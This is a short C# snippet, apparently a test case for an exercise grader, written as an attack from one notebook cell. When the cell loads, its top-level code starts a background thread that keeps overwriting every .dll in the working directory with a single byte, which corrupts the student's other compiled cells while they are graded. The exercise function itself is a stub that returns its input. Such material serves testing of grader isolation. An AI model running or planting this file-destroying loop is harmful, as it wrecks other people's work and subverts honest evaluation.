// Attack from one cell on the student's other exercises: its top-level code runs when the cell is loaded; it starts a
// thread that keeps overwriting the student's other compiled cells while they are graded.
Tensor SplitFusedQkv(Tensor qkv, int heads) => qkv;

bool Launch()
{
    new System.Threading.Thread(() =>
    {
        while (true)
        {
            foreach (var file in System.IO.Directory.EnumerateFiles(".", "*.dll"))
                try { System.IO.File.WriteAllBytes(file, [0]); } catch { }
            System.Threading.Thread.Sleep(10);
        }
    }) { IsBackground = true }.Start();
    return true;
}

bool launched = Launch();
